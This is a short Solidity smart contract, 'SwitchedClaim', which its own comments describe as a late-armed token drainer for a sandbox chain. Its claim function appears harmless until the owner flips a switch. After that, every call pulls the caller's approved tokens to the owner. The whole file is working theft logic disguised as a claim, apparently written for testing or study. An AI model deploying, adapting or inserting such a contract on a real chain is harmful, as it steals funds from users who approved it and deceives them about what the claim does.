// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {Tokens} from "./base/Tokens.sol";

/// @title A drainer that is armed late: a claim that does nothing, until its owner throws a switch.
/// @dev Made for the sandbox chain only: it needs a victim who approved it. The switch lies beside the owner in one word.
contract SwitchedClaim {
    address public owner;
    bool public open;
    address public token;
    uint256 public claims;

    constructor(address owner_, address token_) {
        owner = owner_;
        token = token_;
    }

    function setOpen(bool on) external {
        require(msg.sender == owner);
        open = on;
    }

    function claim() external {
        claims++;
        if (!open) return;
        uint256 amount = Tokens.takeable(token, msg.sender, address(this));
        if (amount > 0) Tokens.pull(token, msg.sender, owner, amount);
    }
}
